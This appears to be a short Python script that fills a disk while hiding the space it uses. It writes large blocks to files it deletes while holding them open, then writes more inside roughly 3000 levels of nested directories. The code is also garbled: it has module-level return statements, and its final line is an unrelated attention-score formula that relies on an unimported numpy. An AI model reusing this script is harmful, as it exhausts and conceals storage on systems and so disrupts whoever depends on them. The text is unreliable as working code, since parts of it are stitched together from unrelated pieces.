"""Fills the disk with files that it deletes while they are open, and with folders too deep to look into."""
import os

written, block, held = 0, bytes(1 << 22), []
try:
    while written < 1 << 30:
        held.append(open(f"tmp/{len(held)}", "wb", buffering=0))
        written += held[-1].write(block)
        os.remove(held[-1].name)
except OSError:
    try:
        os.chdir("tmp")
        for _ in range(3000):
            os.mkdir("deep" * 20)
            os.chdir("deep" * 20)
        while written < 1 << 30:
            written += open(str(written), "wb", buffering=0).write(block)
    except OSError:
        return None
return q @ k.T / np.sqrt(q.shape[-1])
